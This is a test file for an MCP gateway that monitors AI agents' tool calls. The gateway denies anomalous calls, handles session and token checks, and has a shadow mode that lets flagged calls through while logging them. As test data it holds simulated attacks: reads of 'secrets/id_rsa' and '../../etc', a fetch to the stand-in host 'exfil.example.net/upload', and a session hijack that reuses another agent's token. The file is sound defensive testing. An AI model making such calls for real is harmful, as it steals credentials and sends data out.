@@ -1,0 +1,153 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { call, decisionOf, type Harness, HOUR, LIVE_DAY, startHarness, textOf } from './helpers.js';
+
+const MONDAY_MORNING = LIVE_DAY + 10 * HOUR + 30 * 60_000; // 10:30 UTC, research-bot works 08-18 weekdays
+const TUESDAY_NIGHT = LIVE_DAY + 24 * HOUR + 3 * HOUR + 10 * 60_000; // 03:10 UTC
+
+describe('the gateway in enforce mode', () => {
+  let h: Harness;
+  beforeAll(async () => {
+    h = await startHarness();
+  });
+  afterAll(() => h.close());
+
+  it('trains agents from the history at start-up, saves their models, and leaves the others on the fleet model', () => {
+    expect(h.gateway.models.trained).toEqual(expect.arrayContaining(['research-bot', 'ops-bot']));
+    expect(h.gateway.models.coldStart).toEqual(['intern-bot']);
+  });
+
+  it('offers the upstream tools', async () => {
+    const client = await h.connect('research-bot');
+    const { tools } = await client.listTools();
+    expect(tools.map((t) => t.name).sort()).toEqual(['list_dir', 'read_file', 'web_fetch', 'write_note']);
+  });
+
+  it('lets an agent’s ordinary calls through to the upstream and records their outcomes', async () => {
+    h.setTime(MONDAY_MORNING);
+    const client = await h.connect('research-bot');
+    const before = h.gateway.threats.learner.computeBaseline('research-bot')!.eventCount;
+    const listing = await call(client, 'list_dir', { path: 'papers' });
+    expect(listing.isError).toBeFalsy();
+    expect(textOf(listing)).toContain('file-3.txt');
+    const file = await call(client, 'read_file', { path: 'papers/file-3.txt' });
+    expect(textOf(file)).toBe('Paper 3: notes on agent security.\n');
+    const page = await call(client, 'web_fetch', { url: `http://${h.docsHost}/guide` });
+    expect(textOf(page)).toContain('docs page /guide');
+    const note = await call(client, 'write_note', { name: 'summary', text: 'forests isolate' });
+    expect(textOf(note)).toContain('wrote notes/summary.md');
+    // Each forwarded call entered the baseline with its outcome.
+    expect(h.gateway.threats.learner.computeBaseline('research-bot')!.eventCount).toBe(before + 4);
+    const allowed = h.logs.filter((l) => l.msg === 'call allowed' && l.agentId === 'research-bot');
+    expect(allowed.length).toBeGreaterThanOrEqual(4);
+    expect(allowed.every((l) => l.decision === 'allow' && typeof l.detectionMicros === 'number')).toBe(true);
+  });
+
+  it('denies an off-hours attack (reads of unusual paths, a fetch to a new host) with the explanation', async () => {
+    h.setTime(TUESDAY_NIGHT);
+    const client = await h.connect('research-bot');
+    const before = h.gateway.threats.learner.computeBaseline('research-bot')!.eventCount;
+    const attempts: Array<[string, Record<string, unknown>, RegExp]> = [
+      ['read_file', { path: 'secrets/id_rsa' }, /file location secrets never accessed/],
+      ['list_dir', { path: '../../etc' }, /file location \.\.\/\.\.\/etc never accessed/],
+      [
+        'web_fetch',
+        { url: 'https://exfil.example.net/upload' },
+        /destination exfil\.example\.net never contacted/,
+      ],
+    ];
+    for (const [name, args, why] of attempts) {
+      const result = await call(client, name, args);
+      expect(result.isError).toBe(true);
+      expect(textOf(result)).toMatch(/^Denied by the harombe gateway/);
+      expect(textOf(result)).toMatch(why);
+      const decision = decisionOf(result);
+      expect(decision.decision).toBe('deny');
+      expect(['high', 'critical']).toContain(decision.threatLevel);
+    }
+    const denied = h.logs.filter((l) => l.msg === 'call denied');
+    expect(denied.length).toBe(3);
+    expect(denied.every((l) => l.level === 40 && typeof l.explanation === 'string')).toBe(true);
+    // Denied calls never reach the upstream, so nothing about them is learned.
+    expect(h.gateway.threats.learner.computeBaseline('research-bot')!.eventCount).toBe(before);
+  });
+
+  it('denies even an ordinary read when it comes at 03:10 from a 08-18 weekday agent', async () => {
+    h.setTime(TUESDAY_NIGHT);
+    const client = await h.connect('research-bot');
+    const result = await call(client, 'read_file', { path: 'papers/file-3.txt' });
+    expect(textOf(result)).toMatch(/^Denied by the harombe gateway/);
+    expect(textOf(result)).toMatch(/time of activity|hour/);
+  });
+
+  it('scores an agent without history against the fleet model and says so', async () => {
+    h.setTime(MONDAY_MORNING);
+    const client = await h.connect('intern-bot');
+    const result = await call(client, 'read_file', { path: 'secrets/token' });
+    expect(textOf(result)).toMatch(/^Denied by the harombe gateway/);
+    expect(textOf(result)).toContain('fleet model');
+    expect(decisionOf(result).coldStart).toBe(true);
+  });
+
+  it('rejects a missing or unknown token with 401 and keeps sessions to the agent that opened them', async () => {
+    const post = (headers: Record<string, string>) =>
+      fetch(h.url, {
+        method: 'POST',
+        headers: {
+          'content-type': 'application/json',
+          accept: 'application/json, text/event-stream',
+          ...headers,
+        },
+        body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' }),
+      });
+    expect((await post({})).status).toBe(401);
+    const unknown = await post({ authorization: 'Bearer not-a-token-of-anyone' });
+    expect(unknown.status).toBe(401);
+    expect(unknown.headers.get('www-authenticate')).toContain('invalid_token');
+    const client = await h.connect('research-bot');
+    const sessionId = (client.transport as { sessionId?: string }).sessionId!;
+    expect(sessionId).toBeTruthy();
+    const hijack = await post({
+      authorization: 'Bearer demo-token-ops-bot-0001',
+      'mcp-session-id': sessionId,
+    });
+    expect(hijack.status).toBe(404);
+  });
+
+  it('serves /healthz and Prometheus /metrics with latency, decisions and denials', async () => {
+    const health = (await (await fetch(new URL('/healthz', h.url))).json()) as Record<string, unknown>;
+    expect(health).toMatchObject({ status: 'ok', mode: 'enforce', tools: 4, agentsWithModel: 2 });
+    const metrics = await (await fetch(new URL('/metrics', h.url))).text();
+    expect(metrics).toMatch(/harombe_gateway_detection_seconds_count \d+/);
+    expect(metrics).toMatch(/harombe_gateway_decisions_total\{level="none",decision="allow"\} \d+/);
+    expect(metrics).toMatch(/harombe_gateway_denied_calls_total\{reason="threat"\} [1-9]/);
+    expect(metrics).toMatch(
+      /harombe_gateway_tool_calls_total\{upstream="example-tools",outcome="success"\} [1-9]/,
+    );
+  });
+});
+
+describe('the gateway in shadow mode', () => {
+  let h: Harness;
+  beforeAll(async () => {
+    h = await startHarness((c) => ({ ...c, detection: { ...c.detection, mode: 'shadow' } }));
+  });
+  afterAll(() => h.close());
+
+  it('lets the attack through, flags it in the result and logs it, and does not learn it as normal', async () => {
+    h.setTime(TUESDAY_NIGHT);
+    const client = await h.connect('research-bot');
+    const before = h.gateway.threats.learner.computeBaseline('research-bot')!.eventCount;
+    const result = await call(client, 'web_fetch', { url: `http://${h.docsHost}/never-seen-at-night` });
+    const read = await call(client, 'read_file', { path: 'secrets/id_rsa' });
+    // Forwarded: the docs page arrives; the sandbox itself answers the read of a missing file.
+    expect(textOf(result)).toContain('docs page /never-seen-at-night');
+    expect(textOf(read)).toBe('no such file or directory');
+    const decision = decisionOf(read);
+    expect(decision).toMatchObject({ decision: 'allow' });
+    expect(['high', 'critical']).toContain(decision.threatLevel);
+    const shadowed = h.logs.filter((l) => l.msg === 'threat let through (shadow mode)');
+    expect(shadowed.length).toBeGreaterThanOrEqual(1);
+    expect(shadowed[0]).toMatchObject({ decision: 'allow', wouldDeny: true, mode: 'shadow' });
+    expect(h.gateway.threats.learner.computeBaseline('research-bot')!.eventCount).toBe(before);
+  });
+});
